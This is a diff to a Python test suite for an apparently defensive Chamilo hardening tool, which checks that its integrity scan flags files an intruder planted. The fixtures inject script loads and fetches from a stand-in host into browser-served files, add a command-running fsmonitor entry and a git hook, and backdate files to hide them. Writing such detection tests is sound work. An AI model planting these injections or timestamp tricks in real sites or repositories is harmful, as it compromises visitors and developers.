@@ -55,6 +55,12 @@ HELD = {
     "public/plugin/BuyCourses/src/more.php": php("plugin"),
     "public/plugin/Weather/start.php": WEATHER,
 }
+# What the browsers of visitors run: seen by the package alone.
+IN_BROWSERS = {
+    "public/build/app.js": "fetch('//x.test')\n",
+    "public/login2.html": "<script src=//x.test/a.js></script>\n",
+    "public/sw.js": "fetch('//x.test')\n",
+}
 GIT = {
     ".git/config": f"[core]\n\trepositoryformatversion = 0\n\tfsmonitor = touch {MARKS}/fsmonitor; false\n",
     ".git/hooks/post-checkout": f"#!/bin/sh\ntouch {MARKS}/hook\n",
@@ -147,7 +153,7 @@ def as_the_web_user(host: Host, path: str, text: str) -> None:
 
 def plant(host: Host) -> None:
     host.run(f"install -d -m 777 {MARKS}")
-    for path, text in {**NAMED, **HELD, **GIT}.items():
+    for path, text in {**NAMED, **HELD, **GIT, **IN_BROWSERS}.items():
         as_the_web_user(host, path, text or ("\n# planted\n" if path.endswith("yaml") else "\n// planted\n"))
     host.run(f"cd {ROOT}/.git && chmod 755 hooks/post-checkout && mkdir -p objects refs", user="www-data")
     as_the_web_user(host, "var/upload/prepended.txt", php("prepended"))
@@ -194,7 +200,7 @@ def package(host: Host, folder: Path) -> str:
 
 def age(host: Host) -> None:
     """An intruder sets the date of each file back to that of the release."""
-    host.run(f"cd {ROOT} && touch -r src/Kernel.php {' '.join([*NAMED, *HELD])}", user="www-data")
+    host.run(f"cd {ROOT} && touch -r src/Kernel.php {' '.join([*NAMED, *HELD, *IN_BROWSERS])}", user="www-data")
 
 
 @pytest.mark.wire
@@ -232,7 +238,7 @@ def test_what_an_intruder_planted_is_named_or_cannot_run_and_nothing_else_is(
     evidence = found.evidence["monitoring_compromise"]
     assert [words for words in IN_THE_PORTAL.values() if words not in evidence] == []
     listed = fresh.run(["chamilo-hardening", "integrity", "check"], check=False).stdout
-    for path in NAMED:
+    for path in [*NAMED, *(IN_BROWSERS if by_package else ())]:
         assert f"nothing vouches for: {path}" in listed and path in evidence, path
     for path in HELD:
         assert path in listed and path in evidence, path
